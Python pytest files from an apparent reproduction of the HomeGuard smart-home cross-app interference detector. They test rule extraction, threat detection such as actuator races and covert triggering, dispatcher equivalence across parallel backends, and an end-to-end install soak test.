    hg.register_device("Voice", "speaker")
    hg.register_device("Lamp", "floorLamp")
    hg.register_device("Motion", "motionSensor")
    hg.register_device("Siren", "siren")
    return hg


def test_first_app_installs_clean():
    hg = fresh_homeguard()
    review = hg.install(
        app_by_name("ComfortTV"),
        devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
        values={"threshold1": 30},
    )
    assert review.clean
    assert hg.installed_apps() == ["ComfortTV"]


def test_actuator_race_reported_on_second_install():
    hg = fresh_homeguard()
    hg.install(app_by_name("ComfortTV"),
               devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
               values={"threshold1": 30})
    review = hg.install(app_by_name("ColdDefender"),
                        devices={"tv2": "TV", "window2": "Window"},
                        values={"weather": "rainy"})
    assert any(t.type is ThreatType.ACTUATOR_RACE for t in review.threats)


def test_race_not_reported_when_windows_differ():
    hg = fresh_homeguard()
    hg.register_device("Window2", "windowOpener")
    hg.install(app_by_name("ComfortTV"),
               devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
               values={"threshold1": 30})
    review = hg.install(app_by_name("ColdDefender"),
                        devices={"tv2": "TV", "window2": "Window2"},
                        values={"weather": "rainy"})
    # Different physical windows: no race on the same actuator.
    assert not any(t.type is ThreatType.ACTUATOR_RACE for t in review.threats)


def test_covert_triggering_reported():
    hg = fresh_homeguard()
    hg.install(app_by_name("ComfortTV"),
               devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
               values={"threshold1": 30})
    review = hg.install(app_by_name("CatchLiveShow"),
                        devices={"voice": "Voice", "tv3": "TV"},
                        values={"showDay": "Thursday"})
    assert any(t.type is ThreatType.COVERT_TRIGGERING for t in review.threats)


def test_disabling_condition_reported():
    hg = fresh_homeguard()
    hg.install(app_by_name("BurglarFinder"),
               devices={"lamp1": "Lamp", "motion1": "Motion", "alarm1": "Siren"})
    review = hg.install(app_by_name("NightCare"), devices={"lamp2": "Lamp"})
    assert any(t.type is ThreatType.DISABLING_CONDITION for t in review.threats)


def test_delete_decision_forgets_app():
    hg = fresh_homeguard()
    hg.install(app_by_name("ComfortTV"),
               devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
               values={"threshold1": 30})
    hg.install(app_by_name("ColdDefender"),
               devices={"tv2": "TV", "window2": "Window"},
               values={"weather": "rainy"},
               decision=InstallDecision.DELETE)
    assert hg.installed_apps() == ["ComfortTV"]


def test_reconfigure_rebinding_updates_detection():
    # An installed app re-sends its configuration bound to a different
    # device; even with a RECONFIGURE decision the recorded payload is
    # the new one, so later installs must be checked against the new
    # binding (regression: the pipeline index kept the old identities).
    hg = fresh_homeguard()
    hg.register_device("Window2", "windowOpener")
    hg.install(app_by_name("ComfortTV"),
               devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
               values={"threshold1": 30})
    hg.install(app_by_name("ComfortTV"),
               devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window2"},
               values={"threshold1": 30},
               decision=InstallDecision.RECONFIGURE)
    review = hg.install(app_by_name("ColdDefender"),
                        devices={"tv2": "TV", "window2": "Window2"},
                        values={"weather": "rainy"})
    assert any(t.type is ThreatType.ACTUATOR_RACE for t in review.threats)


def test_device_retyping_refreshes_other_installed_apps():
    # Device types are home-global: when a later install re-types a
    # device, previously installed apps bound to it gain/lose effect
    # channels and must be re-signed (regression: only the reviewed
    # app was invalidated, hiding covert triggering via temperature).
    hg = HomeGuard(transport="http")
    hg.register_device("Heater", "switch")  # mis-typed at first
    hg.register_device("Temp", "temperatureSensor")
    hg.install(app_by_name("ModeAwareHeater"),
               devices={"heater1": "Heater", "tSensor": "Temp"},
               values={"tooCold": 62, "occupiedMode": "Home"})
    hg.register_device("Heater", "heater")  # corrected type, same label/id
    review = hg.install(app_by_name("ItsTooHot"),
                        devices={"tSensor": "Temp", "ac": "Heater"},
                        values={"tooHot": 80})
    # The heater's temperature effect can now fire ItsTooHot's trigger.
    assert any(
        t.type is ThreatType.COVERT_TRIGGERING for t in review.threats
    )


def test_reconfigure_decision_keeps_nothing_yet():
    hg = fresh_homeguard()
    hg.install(app_by_name("ComfortTV"),
               devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
               values={"threshold1": 30},
               decision=InstallDecision.RECONFIGURE)
    assert hg.installed_apps() == []


def test_review_shows_rules_in_english():
    hg = fresh_homeguard()
    review = hg.install(app_by_name("ComfortTV"),
                        devices={"tv1": "TV", "tSensor": "Temp",
                                 "window1": "Window"},
                        values={"threshold1": 30})
    assert len(review.rules) == 1
    assert "then" in review.rules[0]


def test_render_review_clean_and_dirty():
    hg = fresh_homeguard()
    r1 = hg.install(app_by_name("ComfortTV"),
                    devices={"tv1": "TV", "tSensor": "Temp",
                             "window1": "Window"},
                    values={"threshold1": 30})
    text = render_review(r1)
    assert "No cross-app interference" in text
    r2 = hg.install(app_by_name("ColdDefender"),
                    devices={"tv2": "TV", "window2": "Window"},
                    values={"weather": "rainy"})
    text2 = render_review(r2)
    assert "threat(s) detected" in text2
    assert "[Keep]" in text2


def test_describe_threat_every_type_readable():
    hg = fresh_homeguard()
    hg.install(app_by_name("ComfortTV"),
               devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
               values={"threshold1": 30})
    hg.install(app_by_name("BurglarFinder"),
               devices={"lamp1": "Lamp", "motion1": "Motion",
                        "alarm1": "Siren"})
    review2 = hg.install(app_by_name("ColdDefender"),
                         devices={"tv2": "TV", "window2": "Window"},
                         values={"weather": "rainy"})
    review3 = hg.install(app_by_name("NightCare"), devices={"lamp2": "Lamp"})
    for threat in review2.threats + review3.threats:
        text = describe_threat(threat)
        assert threat.type.value in text
        assert threat.rule_a.app_name in text or threat.rule_b.app_name in text


def test_missing_backend_rules_raises():
    backend = RuleExtractor()
    app = HomeGuardApp(backend)
    from repro.config.uri import ConfigPayload

    with pytest.raises(LookupError):
        app.review_installation(ConfigPayload(app_name="Ghost"))


def test_chain_detected_through_allowed_list():
    hg = HomeGuard(transport="http")
    hg.register_device("Wall switch", "switch")
    hg.register_device("Front lock", "doorLock")
    hg.register_device("Hall motion", "motionSensor")
    hg.install(app_by_name("SwitchChangesMode"),
               devices={"master": "Wall switch"},
               values={"onMode": "Home", "offMode": "Away"})
    hg.install(app_by_name("MakeItSo"),
               devices={"switches": "Wall switch", "locks": "Front lock"},
               values={"targetMode": "Home", "heatSetpoint": 70})
    review = hg.install(app_by_name("CurlingIron"),
                        devices={"motion1": "Hall motion",
                                 "outlets": "Wall switch"},
                        values={"minutesLater": 30})
    # CurlingIron -> SwitchChangesMode -> MakeItSo: motion ends up
    # unlocking the door (the paper's §VIII-B example 2).
    assert review.chains
    chain_apps = [rule.app_name for rule in review.chains[0].chain]
    assert chain_apps[0] == "CurlingIron"
    assert chain_apps[-1] == "MakeItSo"


def test_transport_log_populated():
    hg = fresh_homeguard()
    hg.install(app_by_name("ComfortTV"),
               devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
               values={"threshold1": 30})
    assert len(hg.transport.log) == 1
    assert hg.transport.log[0].uri.startswith("http://my.com/appname:ComfortTV")
