"""Tests for the rule model, serialization and human-readable rendering."""

import json

from repro.rules import (
    Action,
    Condition,
    DataConstraint,
    Rule,
    RuleSet,
    Trigger,
    describe_rule,
    describe_trigger,
    extract_rules,
    rule_from_json,
    rule_to_json,
    ruleset_from_json,
    ruleset_to_json,
)
from repro.rules.interpreter import describe_action, describe_condition, render_expr
from repro.symex.values import (
    BinExpr,
    Const,
    DeviceAttr,
    DeviceRef,
    EventValue,
    LocalVar,
    UserInput,
)

TV = DeviceRef("tv1", "capability.switch")
WINDOW = DeviceRef("window1", "capability.switch")
SENSOR = DeviceRef("tSensor", "capability.temperatureMeasurement")

RULE1 = Rule(
    app_name="ComfortTV",
    rule_id="ComfortTV/R1",
    trigger=Trigger(
        subject="tv1",
        attribute="switch",
        constraint=BinExpr("==", EventValue(), Const("on")),
        device=TV,
    ),
    condition=Condition(
        data_constraints=(
            DataConstraint("t", DeviceAttr(SENSOR, "temperature")),
        ),
        predicate_constraints=(
            BinExpr(">", LocalVar("t"), UserInput("threshold1", "number")),
            BinExpr("==", DeviceAttr(WINDOW, "switch"), Const("off")),
        ),
    ),
    action=Action(
        subject="window1", command="on", device=WINDOW, capability="switch"
    ),
)


def test_rule_roundtrip_json():
    data = rule_to_json(RULE1)
    text = json.dumps(data)
    back = rule_from_json(json.loads(text))
    assert back == RULE1


def test_ruleset_roundtrip_json():
    ruleset = RuleSet(app_name="ComfortTV", rules=[RULE1],
                      inputs={"tv1": TV, "threshold1": UserInput("threshold1", "number")})
    text = ruleset_to_json(ruleset)
    back = ruleset_from_json(text)
    assert back.app_name == "ComfortTV"
    assert back.rules == [RULE1]
    assert back.inputs["tv1"] == TV


def test_symbolic_when_roundtrips():
    action = Action(
        subject="sw", command="off",
        when=BinExpr("*", UserInput("minutes", "number"), Const(60)),
    )
    rule = Rule("A", "A/R1", Trigger("sw", "switch"), Condition(), action)
    back = rule_from_json(rule_to_json(rule))
    assert back.action.when == action.when


def test_rule_file_size_is_kilobytes():
    # Paper §VIII-C: 6.2 KB per app on average; ours must stay in the
    # same order of magnitude.
    from repro.corpus import app_by_name

    ruleset = extract_rules(app_by_name("ComfortTV").source, "ComfortTV")
    size = len(ruleset_to_json(ruleset).encode())
    assert 200 < size < 20000


def test_describe_trigger_state_change():
    trigger = Trigger(subject="sw1", attribute="switch")
    assert "changes" in describe_trigger(trigger)


def test_describe_trigger_with_constraint():
    text = describe_trigger(RULE1.trigger)
    assert "tv1" in text
    assert "on" in text


def test_describe_trigger_scheduled():
    trigger = Trigger(subject="time", attribute="every5Minutes")
    assert "schedule" in describe_trigger(trigger)


def test_describe_condition():
    text = describe_condition(RULE1.condition)
    assert text.startswith("if ")
    assert "threshold1" in text


def test_describe_action_with_delay():
    action = Action(subject="lamp", command="off", when=300.0)
    text = describe_action(action)
    assert "after 5 minutes" in text


def test_describe_action_with_period():
    action = Action(subject="pump", command="on", period=3600.0)
    assert "every 1 hour" in describe_action(action)


def test_describe_action_symbolic_delay():
    action = Action(
        subject="lamp", command="off",
        when=BinExpr("*", UserInput("m", "number"), Const(60)),
    )
    assert "configured delay" in describe_action(action)


def test_describe_rule_full_sentence():
    text = describe_rule(RULE1)
    assert text.startswith("when ")
    assert " then " in text


def test_render_expr_operators():
    expr = BinExpr(">=", DeviceAttr(SENSOR, "temperature"), Const(30))
    assert "at least" in render_expr(expr)


def test_action_is_delayed():
    assert Action(subject="x", command="on", when=5.0).is_delayed
    assert not Action(subject="x", command="on").is_delayed
    symbolic = Action(subject="x", command="on",
                      when=UserInput("d", "number"))
    assert symbolic.is_delayed


def test_condition_is_trivial():
    assert Condition().is_trivial
    assert not RULE1.condition.is_trivial


def test_ruleset_device_inputs():
    ruleset = RuleSet(
        app_name="A",
        inputs={"tv1": TV, "threshold1": UserInput("threshold1", "number")},
    )
    assert set(ruleset.device_inputs()) == {"tv1"}
