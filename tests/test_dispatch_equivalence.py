"""Dispatcher equivalence: plan/execute detection must be a pure
performance feature (DESIGN.md §9).

Every backend — inline (no dispatcher), SerialDispatcher,
ThreadPoolDispatcher, ProcessPoolDispatcher, at any worker count —
must produce:

* identical :class:`ThreatReport` sequences (order, detail, witness),
* identical exported solve caches (content *and* insertion order),
* identical persisted :class:`DetectionStore` bytes,
* identical stats counters (solver calls / cache hits / pairs), with
  each executed solve's CPU time attributed exactly once (the
  ``total_solve_seconds`` double-count regression).

Run under both the default hash seed and ``PYTHONHASHSEED=0`` (see
``make test-hashseed``) to catch ordering that leaks from set/dict
iteration into the supposedly deterministic merge.
"""

import json
from pathlib import Path

import pytest

from repro.constraints import TypeBasedResolver
from repro.constraints.dispatch import (
    AutoDispatcher,
    DispatchStream,
    ProcessPoolDispatcher,
    SerialDispatcher,
    SolverDispatcher,
    ThreadPoolDispatcher,
    make_dispatcher,
)
from repro.corpus import demo_apps, device_controlling_apps
from repro.detector import DetectionPipeline, DetectionStore
from repro.rules.extractor import RuleExtractor


def _extract_corpus(apps):
    extractor = RuleExtractor()
    rulesets, hints, values = [], {}, {}
    for app in apps:
        rulesets.append(extractor.extract(app.source, app.name))
        hints[app.name] = app.type_hints
        values[app.name] = app.values
    return rulesets, hints, values


def _demo_corpus():
    return _extract_corpus(list(demo_apps()))


def _generated_corpus():
    return _extract_corpus(list(device_controlling_apps()))


def _full_threats(reports):
    """Loss-free threat fingerprint: order, types, rules, explanation
    text and solver witnesses all participate in the comparison."""
    return [
        (
            report.app_name,
            threat.type.value,
            threat.rule_a.rule_id,
            threat.rule_b.rule_id,
            threat.detail,
            threat.witness,
        )
        for report in reports
        for threat in report.threats
    ]


def _store_bytes(pipeline, rulesets, tmp_path: Path, label: str) -> dict:
    store_dir = tmp_path / label
    DetectionStore(store_dir).save(
        pipeline, rulesets={r.app_name: r for r in rulesets}
    )
    return {
        path.name: path.read_bytes()
        for path in sorted(store_dir.iterdir())
    }


def _audit(corpus, dispatcher, tmp_path, label, shared_cache=None):
    rulesets, hints, values = corpus
    pipeline = DetectionPipeline(
        TypeBasedResolver(type_hints=hints, values=values),
        dispatcher=dispatcher,
        shared_cache=shared_cache,
    )
    try:
        reports = pipeline.audit_store(rulesets)
        return {
            "threats": _full_threats(reports),
            "caches": json.dumps(
                pipeline.engine.export_caches(), default=str
            ),
            "counters": (
                pipeline.stats.solver_calls,
                pipeline.stats.cache_hits,
                pipeline.stats.pairs_examined,
                pipeline.stats.prescreen_pruned_pairs,
                pipeline.stats.planned_pairs,
            ),
            "shared": (
                pipeline.stats.shared_cache_hits,
                pipeline.stats.shared_cache_publishes,
            ),
            "store": _store_bytes(pipeline, rulesets, tmp_path, label),
        }
    finally:
        pipeline.close()


BACKENDS = [
    ("serial", lambda: SerialDispatcher()),
    ("thread2", lambda: ThreadPoolDispatcher(2)),
    ("process2", lambda: ProcessPoolDispatcher(2)),
    ("process4", lambda: ProcessPoolDispatcher(4)),
    # Tiny plan chunks force the chunked planning path across many
    # chunk boundaries (deterministic merge coverage, DESIGN.md §10).
    ("process2-chunk3", lambda: ProcessPoolDispatcher(2, plan_chunk_pairs=3)),
    # The auto backend pinned above its threshold: adaptive selection
    # must be just another byte-identical way to run the batch.
    ("auto2", lambda: AutoDispatcher(workers=2, min_batch=1)),
]


@pytest.mark.parametrize("corpus_name", ["demo", "generated"])
def test_backends_equivalent_to_inline(corpus_name, tmp_path):
    corpus = (
        _demo_corpus() if corpus_name == "demo" else _generated_corpus()
    )
    reference = _audit(corpus, None, tmp_path, "inline")
    assert reference["threats"], "corpus produced no threats to compare"
    for name, factory in BACKENDS:
        outcome = _audit(corpus, factory(), tmp_path, name)
        assert outcome["threats"] == reference["threats"], name
        assert outcome["caches"] == reference["caches"], name
        assert outcome["counters"] == reference["counters"], name
        assert outcome["store"] == reference["store"], name


@pytest.mark.parametrize("corpus_name", ["demo", "generated"])
def test_shared_cache_backends_equivalent(corpus_name, tmp_path):
    # The shared cross-tenant solve cache (DESIGN.md §12) is a pure
    # performance feature too: with any backend, threats, exported
    # caches and store bytes stay byte-identical, and the only counter
    # movement is the exact solver-call <-> shared-hit trade.
    from repro.constraints.solvecache import (
        InProcessLRUCache,
        SQLiteSolveCache,
    )

    corpus = (
        _demo_corpus() if corpus_name == "demo" else _generated_corpus()
    )
    reference = _audit(corpus, None, tmp_path, "inline")
    ref_calls, *ref_rest = reference["counters"]
    assert reference["shared"] == (0, 0)
    arms = [
        ("inline-lru", lambda: None, lambda: InProcessLRUCache()),
        ("serial-lru", lambda: SerialDispatcher(),
         lambda: InProcessLRUCache()),
        ("auto2-sqlite", lambda: AutoDispatcher(workers=2, min_batch=1),
         lambda: SQLiteSolveCache(tmp_path / "auto2.db")),
    ]
    for name, dispatcher_of, cache_of in arms:
        cache = cache_of()
        outcome = _audit(
            corpus, dispatcher_of(), tmp_path, name, shared_cache=cache
        )
        cache.close()
        assert outcome["threats"] == reference["threats"], name
        assert outcome["caches"] == reference["caches"], name
        assert outcome["store"] == reference["store"], name
        solver_calls, *rest = outcome["counters"]
        shared_hits, shared_publishes = outcome["shared"]
        assert rest == ref_rest, name
        # Verdict conservation: every reference solve either executed
        # or was served from the shared cache — nothing else moved.
        assert solver_calls + shared_hits == ref_calls, name
        assert 0 < shared_publishes <= solver_calls, name


def test_warmed_shared_cache_eliminates_solver_calls(tmp_path):
    from repro.constraints.solvecache import SQLiteSolveCache

    corpus = _demo_corpus()
    reference = _audit(corpus, None, tmp_path, "inline")
    cache = SQLiteSolveCache(tmp_path / "fleet.db")
    try:
        _audit(corpus, SerialDispatcher(), tmp_path, "cold",
               shared_cache=cache)
        # A structurally identical corpus audited against the warmed
        # cache — any backend — performs zero solver calls and still
        # reproduces every byte.
        warm = _audit(
            corpus, AutoDispatcher(workers=2, min_batch=1), tmp_path,
            "warm", shared_cache=cache,
        )
    finally:
        cache.close()
    assert warm["threats"] == reference["threats"]
    assert warm["caches"] == reference["caches"]
    assert warm["store"] == reference["store"]
    assert warm["counters"][0] == 0  # solver_calls
    assert warm["shared"][0] > 0
    assert warm["shared"][1] == 0  # nothing new to publish


def test_worker_count_never_changes_results(tmp_path):
    corpus = _demo_corpus()
    with_two = _audit(corpus, ProcessPoolDispatcher(2), tmp_path, "two")
    with_three = _audit(corpus, ProcessPoolDispatcher(3), tmp_path, "three")
    assert with_two == with_three


def test_per_install_batches_match_inline():
    # The companion-app flow dispatches one batch per review (detect +
    # commit), not one per audit; that path must match inline too.
    rulesets, hints, values = _demo_corpus()

    def run(dispatcher):
        pipeline = DetectionPipeline(
            TypeBasedResolver(type_hints=hints, values=values),
            dispatcher=dispatcher,
        )
        try:
            reports = []
            for ruleset in rulesets:
                reports.append(pipeline.detect(ruleset))
                pipeline.commit(ruleset.app_name)
            return _full_threats(reports), (
                pipeline.stats.solver_calls,
                pipeline.stats.cache_hits,
                pipeline.stats.pairs_examined,
            )
        finally:
            pipeline.close()

    assert run(ThreadPoolDispatcher(2)) == run(None)


class _RecordingDispatcher(SerialDispatcher):
    """Serial backend that remembers every executed task outcome."""

    def __init__(self):
        self.outcomes = {}

    def stream(self):
        outer = self

        class _Recording(DispatchStream):
            def collect(self):
                outcomes = super().collect()
                outer.outcomes.update(outcomes)
                return outcomes

        return _Recording()


def test_total_solve_seconds_counts_each_task_once():
    # A situation solve is looked up by AR, GC *and* CT for the same
    # pair; naive batch merging would attribute its CPU time at every
    # lookup.  The attributed total must equal the executed tasks'
    # summed CPU exactly — one attribution per task, cache hits free.
    rulesets, hints, values = _demo_corpus()
    dispatcher = _RecordingDispatcher()
    pipeline = DetectionPipeline(
        TypeBasedResolver(type_hints=hints, values=values),
        dispatcher=dispatcher,
    )
    pipeline.audit_store(rulesets)
    stats = pipeline.stats
    executed = sum(o.seconds for o in dispatcher.outcomes.values())
    assert stats.solver_calls == len(dispatcher.outcomes)
    assert stats.cache_hits > 0
    assert abs(stats.total_solve_seconds() - executed) < 1e-9
    assert stats.total_solve_seconds() == stats.solver_cpu_seconds()
    # Batched accounting splits planning from execution.
    assert stats.plan_seconds > 0.0
    assert stats.dispatch_seconds > 0.0
    assert stats.solve_wall_seconds() == stats.dispatch_seconds
    # Single-planner rounds: planning CPU is the rounds' wall time, and
    # plan_seconds additionally covers the finalize pass.
    assert 0.0 < stats.plan_cpu_seconds <= stats.plan_seconds


def test_inline_stats_have_no_batch_phases():
    rulesets, hints, values = _demo_corpus()
    pipeline = DetectionPipeline(
        TypeBasedResolver(type_hints=hints, values=values)
    )
    pipeline.audit_store(rulesets)
    stats = pipeline.stats
    assert stats.plan_seconds == 0.0
    assert stats.dispatch_seconds == 0.0
    assert stats.solve_wall_seconds() == stats.solver_cpu_seconds()


def test_make_dispatcher_specs():
    assert make_dispatcher(None) is None
    assert type(make_dispatcher(1)) is SerialDispatcher
    assert type(make_dispatcher("serial")) is SerialDispatcher
    process = make_dispatcher(6)
    assert type(process) is ProcessPoolDispatcher and process.workers == 6
    thread = make_dispatcher("thread:3")
    assert type(thread) is ThreadPoolDispatcher and thread.workers == 3
    assert make_dispatcher("process").workers == 4
    auto = make_dispatcher("auto")
    assert type(auto) is AutoDispatcher and auto.workers >= 1
    assert make_dispatcher("auto:3").workers == 3
    custom = SerialDispatcher()
    assert make_dispatcher(custom) is custom
    for bad in ("quantum:9", 0, -4, "process:four", "thread:0", "auto:0",
                "auto:two"):
        with pytest.raises(ValueError):
            make_dispatcher(bad)


def test_make_dispatcher_typo_error_lists_valid_specs():
    # A typo'd spec must say what IS valid, not just reject the input.
    with pytest.raises(ValueError) as excinfo:
        make_dispatcher("proces:4")
    message = str(excinfo.value)
    assert "'proces:4'" in message
    assert "unknown backend name 'proces'" in message
    for valid in ("'serial'", "'thread[:N]'", "'process[:N]'", "'auto[:N]'"):
        assert valid in message, message
    # Bad counts name the actual problem too.
    assert "worker count 'four' is not an int" in str(
        pytest.raises(ValueError, make_dispatcher, "process:four").value
    )
    assert "worker count must be >= 1" in str(
        pytest.raises(ValueError, make_dispatcher, "thread:0").value
    )
    assert "worker count must be >= 1" in str(
        pytest.raises(ValueError, make_dispatcher, -4).value
    )
    with pytest.raises(ValueError):
        ProcessPoolDispatcher(0)
    with pytest.raises(ValueError):
        ProcessPoolDispatcher(2, plan_chunk_pairs=0)
    with pytest.raises(ValueError):
        AutoDispatcher(workers=0)


def test_observe_batch_autotunes_chunk_sizes():
    # Chunk sizing is pure scheduling (the equivalence tests above pin
    # that results never move); here: the sizes actually retarget at
    # ~8ms per worker message, clamped, and only with autotune on.
    tuned = ProcessPoolDispatcher(2, autotune=True)
    # Cheap solves (0.1 ms each) -> bigger chunks, clamped at 512/1024.
    tuned.observe_batch(plan_cpu=0.01, pairs=1000, solves=100,
                        solve_cpu=0.01)
    assert tuned.chunk_tasks == 80  # 8ms / 0.1ms
    assert tuned.plan_chunk_pairs == 800
    tuned.observe_batch(plan_cpu=0.0001, pairs=1000, solves=1000,
                        solve_cpu=0.0001)
    assert tuned.chunk_tasks == 512
    assert tuned.plan_chunk_pairs == 1024
    # Expensive solves (10 ms each) -> clamped at the floors.
    tuned.observe_batch(plan_cpu=10.0, pairs=100, solves=100,
                        solve_cpu=1.0)
    assert tuned.chunk_tasks == 8
    assert tuned.plan_chunk_pairs == 16
    # Empty/zero observations never divide by zero or move the sizes.
    tuned.observe_batch(plan_cpu=0.0, pairs=0, solves=0, solve_cpu=0.0)
    assert (tuned.chunk_tasks, tuned.plan_chunk_pairs) == (8, 16)
    tuned.close()

    fixed = ProcessPoolDispatcher(2)
    before = (fixed.chunk_tasks, fixed.plan_chunk_pairs)
    fixed.observe_batch(plan_cpu=0.01, pairs=1000, solves=100,
                        solve_cpu=0.01)
    assert (fixed.chunk_tasks, fixed.plan_chunk_pairs) == before
    fixed.close()
    # The base protocol is a no-op for non-pooled backends.
    SerialDispatcher().observe_batch(0.1, 10, 10, 0.1)
    # AutoDispatcher's lazily created pool runs autotuned.
    auto = AutoDispatcher(workers=2, min_batch=1)
    try:
        assert auto.for_batch(10).autotune is True
    finally:
        auto.close()


def test_auto_dispatcher_adapts_to_batch_size():
    auto = AutoDispatcher(workers=2, min_batch=10)
    try:
        # Small batches run on the serial reference...
        assert type(auto.for_batch(3)) is SerialDispatcher
        assert auto._pool is None  # ...without ever starting a pool.
        # Large batches get the lazily created process pool.
        pooled = auto.for_batch(10)
        assert type(pooled) is ProcessPoolDispatcher
        assert pooled.workers == 2
        assert auto.for_batch(500) is pooled
    finally:
        auto.close()
    assert auto._pool is None
    # Single-CPU sizing (workers=1) never leaves the serial reference.
    single = AutoDispatcher(workers=1, min_batch=1)
    assert type(single.for_batch(10_000)) is SerialDispatcher


class _UnpicklableResolver(TypeBasedResolver):
    """A resolver process planning cannot ship (closure attribute)."""

    def __init__(self, **kwargs):
        super().__init__(**kwargs)
        self.live_handle = lambda: None  # defeats pickle


def test_unpicklable_resolver_falls_back_to_inline_planning(tmp_path):
    rulesets, hints, values = _demo_corpus()
    reference = _audit((rulesets, hints, values), None, tmp_path, "inline")

    pipeline = DetectionPipeline(
        _UnpicklableResolver(type_hints=hints, values=values),
        dispatcher=ProcessPoolDispatcher(2),
    )
    try:
        reports = pipeline.audit_store(rulesets)
        assert _full_threats(reports) == reference["threats"]
        assert json.dumps(
            pipeline.engine.export_caches(), default=str
        ) == reference["caches"]
        # Planning stayed on the coordinator (no chunk fan-out), but
        # solve dispatch still ran — the pre-parallel-planning mode.
        assert pipeline.stats.plan_cpu_seconds > 0.0
    finally:
        pipeline.close()


def test_prescreen_counters_attributed_once():
    rulesets, hints, values = _demo_corpus()
    resolver = TypeBasedResolver(type_hints=hints, values=values)
    inline = DetectionPipeline(resolver)
    inline.audit_store(rulesets)
    stats = inline.stats
    # Every index candidate is either planned or pruned, and the
    # engine examines exactly the planned pairs.
    assert stats.planned_pairs == stats.pairs_examined
    assert stats.prescreen_pruned_pairs >= 0
    assert stats.planned_pairs > 0


class _ExplodingDispatcher(SerialDispatcher):
    """Fails at collect time, like a broken worker pool would."""

    def stream(self):
        class _Broken(DispatchStream):
            def collect(self):
                raise RuntimeError("worker pool died")

        return _Broken()


def test_failed_batch_audit_rolls_back_installs():
    # The serial path only ever commits fully audited apps; a dispatch
    # failure mid-batch must not leave this audit's apps installed but
    # unaudited.
    rulesets, hints, values = _demo_corpus()
    resolver = TypeBasedResolver(type_hints=hints, values=values)
    pipeline = DetectionPipeline(resolver, dispatcher=_ExplodingDispatcher())
    with pytest.raises(RuntimeError, match="worker pool died"):
        pipeline.audit_store(rulesets)
    assert pipeline.installed_apps() == []
    assert json.dumps(pipeline.engine.export_caches()) == json.dumps(
        DetectionPipeline(resolver).engine.export_caches()
    )
    # The prescreen counters attributed while staging the failed batch
    # are unwound with it.
    assert pipeline.stats.planned_pairs == 0
    assert pipeline.stats.prescreen_pruned_pairs == 0
    # The pipeline stays usable: a healthy dispatcher audits the same
    # store from the rolled-back state, matching the inline run.
    pipeline.dispatcher = SerialDispatcher()
    retried = _full_threats(pipeline.audit_store(rulesets))
    reference = DetectionPipeline(resolver)
    assert retried == _full_threats(reference.audit_store(rulesets))
    assert pipeline.stats.planned_pairs == pipeline.stats.pairs_examined


def test_dispatcher_context_manager_closes_pool():
    with ThreadPoolDispatcher(2) as dispatcher:
        assert isinstance(dispatcher, SolverDispatcher)
        stream = dispatcher.stream()
        stream.submit([])
        assert stream.collect() == {}
        assert dispatcher._executor is not None
    assert dispatcher._executor is None
