"""Soak test: a realistic home accumulating many store apps through the
full HomeGuard pipeline (instrument -> URI -> transport -> review)."""

from repro import HomeGuard, InstallDecision
from repro.corpus import app_by_name
from repro.detector.types import ThreatType
from repro.runtime import SmartHome


INSTALL_PLAN = [
    ("SmartNightlight",
     {"motion1": "Hall motion", "lights": "Hall light",
      "lightSensor": "Hall lux"},
     {"luxLevel": 50}),
    ("LetThereBeDark",
     {"contact1": "Front door", "lights": "Hall light"}, {}),
    ("UndeadEarlyWarning",
     {"contact1": "Front door", "lights": "Hall light"}, {}),
    ("EnergySaver",
     {"meter": "Main meter", "devices": "Space heater"},
     {"threshold": 2000}),
    ("ModeAwareHeater",
     {"heater1": "Space heater", "tSensor": "Hall temp"},
     {"tooCold": 62, "occupiedMode": "Home"}),
    ("LightUpTheNight",
     {"lightSensor": "Hall lux", "lights": "Hall light"},
     {"darkLux": 30, "brightLux": 50}),
    ("LockItWhenILeave",
     {"presence1": "Phone", "lock1": "Front lock"}, {}),
    ("PresenceWelcomeHome",
     {"presence1": "Phone", "lock1": "Front lock"},
     {"homeMode": "Home"}),
]


def build_homeguard() -> HomeGuard:
    hg = HomeGuard(transport="http")
    for label, type_name in [
        ("Hall motion", "motionSensor"), ("Hall light", "light"),
        ("Hall lux", "illuminanceSensor"), ("Front door", "contactSensor"),
        ("Main meter", "powerMeter"), ("Space heater", "heater"),
        ("Hall temp", "temperatureSensor"), ("Phone", "presenceSensor"),
        ("Front lock", "doorLock"),
    ]:
        hg.register_device(label, type_name)
    return hg


def test_store_accumulation_end_to_end():
    hg = build_homeguard()
    reviews = []
    for name, devices, values in INSTALL_PLAN:
        reviews.append(
            hg.install(app_by_name(name), devices=devices, values=values)
        )
    assert len(hg.installed_apps()) == len(INSTALL_PLAN)

    all_threats = [t for review in reviews for t in review.threats]
    found = {t.type for t in all_threats}
    # This particular home exhibits at least races (open-door light on vs
    # closed-door light off share the hall light), loop triggering
    # (LightUpTheNight vs SmartNightlight on the same light+lux sensor)
    # and self-disabling (EnergySaver vs ModeAwareHeater on the heater).
    assert ThreatType.ACTUATOR_RACE in found
    assert ThreatType.SELF_DISABLING in found
    assert ThreatType.COVERT_TRIGGERING in found
    # Every review renders without crashing.
    from repro.frontend import render_review

    for review in reviews:
        assert review.app_name in render_review(review)


def test_same_apps_run_in_simulator_without_errors():
    home = SmartHome(seed=5)
    for label, type_name in [
        ("Hall motion", "motionSensor"), ("Hall light", "light"),
        ("Hall lux", "illuminanceSensor"), ("Front door", "contactSensor"),
        ("Main meter", "powerMeter"), ("Space heater", "heater"),
        ("Hall temp", "temperatureSensor"), ("Phone", "presenceSensor"),
        ("Front lock", "doorLock"),
    ]:
        home.add_device(label, type_name)
    for name, devices, values in INSTALL_PLAN:
        bindings = {
            input_name: label for input_name, label in devices.items()
        }
        home.install_app(app_by_name(name).source, name,
                         bindings=bindings, settings=values)
    # Drive a day of activity.
    home.trigger("Front door", "contact", "open")
    home.trigger("Hall motion", "motion", "active")
    home.trigger("Phone", "presence", "not present")
    home.advance(3600)
    home.trigger("Phone", "presence", "present")
    home.trigger("Front door", "contact", "closed")
    home.advance(3600)
    assert home.errors == []
    assert home.commands  # the home actually did things
    # LockItWhenILeave locked on departure; PresenceWelcomeHome unlocked
